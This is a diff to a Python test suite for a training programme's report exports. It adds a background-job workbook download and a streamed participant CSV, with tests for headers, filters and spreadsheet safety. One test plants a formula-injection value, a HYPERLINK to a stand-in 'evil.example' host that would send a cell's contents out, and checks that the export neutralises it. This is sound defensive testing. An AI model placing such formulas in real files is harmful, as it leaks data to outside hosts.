@@ -8,6 +8,7 @@ import io
 from datetime import date
 
 import pytest
+import sqlalchemy as sa
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
@@ -25,8 +26,21 @@ ROUTES = [
     "/reports/export.csv",
     "/reports/export.xlsx",
     "/reports/export-participants.xlsx",
+    "/reports/export-participants.csv",
     "/reports/donor-report.pdf",
 ]
+
+
+def participants_workbook(client, query: str = ""):
+    """The participant-level workbook as a coordinator gets it: asked for,
+    written by a job (inline under test), downloaded from the job's page."""
+    asked = client.post(f"/reports/export-participants.xlsx{query}")
+    assert asked.status_code == 302, asked.get_data(as_text=True)
+    job_url = asked.headers["Location"]
+    assert job_url.startswith("/jobs/")
+    page = client.get(job_url).get_data(as_text=True)
+    assert "The file is ready." in page, page
+    return client.get(f"{job_url}/result")
 
 
 @pytest.mark.parametrize("url", ROUTES)
@@ -174,7 +188,7 @@ def test_participant_export_is_spreadsheet_safe(client, login_as, programme):
     programme.d.given_name = "-2+3"
     db.session.commit()
     login_as("coordinator")
-    response = client.get("/reports/export-participants.xlsx")
+    response = participants_workbook(client)
     assert response.status_code == 200
     assert response.headers["Cache-Control"] == "no-store"
     assert 'filename="atelier-participants-' in response.headers["Content-Disposition"]
@@ -281,7 +295,7 @@ def test_exports_and_the_donor_report_survive_what_is_stored(client, login_as, p
     programme.partner.name = "Partenaire\x0b\x07"
     db.session.commit()
     login_as("coordinator")
-    response = client.get("/reports/export-participants.xlsx")
+    response = participants_workbook(client)
     assert response.status_code == 200
     rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
     names = {row[1] for row in rows[1:]} | {row[0] for row in rows[1:]}
@@ -299,3 +313,42 @@ def test_exports_and_the_donor_report_survive_what_is_stored(client, login_as, p
     assert response.status_code == 200 and b"\x0b" not in response.data
     response = client.get("/reports/donor-report.pdf")
     assert response.status_code == 200 and response.data.startswith(b"%PDF")
+
+
+def test_the_participant_csv_streams_every_person_training_spreadsheet_safe(
+    client, login_as, programme
+):
+    programme.a.family_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    db.session.commit()
+    login_as("coordinator")
+    response = client.get("/reports/export-participants.csv")
+    assert response.status_code == 200
+    assert response.is_streamed
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Cache-Control"] == "no-store"
+    assert 'filename="atelier-participants-' in response.headers["Content-Disposition"]
+    body = response.get_data(as_text=True)
+    assert body.startswith("\ufeffFamily name,Given name,Sex")
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
+    assert len(rows) == 6  # the header and the five person-trainings, as in the workbook
+    assert any(row[0].startswith("'=HYPERLINK") for row in rows[1:])
+    assert not any(row[0].startswith("=") for row in rows[1:])
+
+
+def test_the_participant_csv_follows_the_filters_and_refuses_bad_ones(client, login_as, programme):
+    login_as("coordinator")
+    body = client.get("/reports/export-participants.csv?country=ML").get_data(as_text=True)
+    assert len(list(csv.reader(io.StringIO(body)))) == 3  # S2's two person-trainings
+    assert client.get("/reports/export-participants.csv?date_from=yesterday").status_code == 400
+
+
+def test_asking_for_the_workbook_by_link_changes_nothing_and_offers_both(client, login_as):
+    from training.jobs.models import Job
+
+    login_as("coordinator")
+    page = client.get("/reports/export-participants.xlsx?country=ML")
+    assert page.status_code == 200
+    text = page.get_data(as_text=True)
+    assert "Prepare the Excel file" in text
+    assert "/reports/export-participants.csv?country=ML" in text
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(Job)) == 0
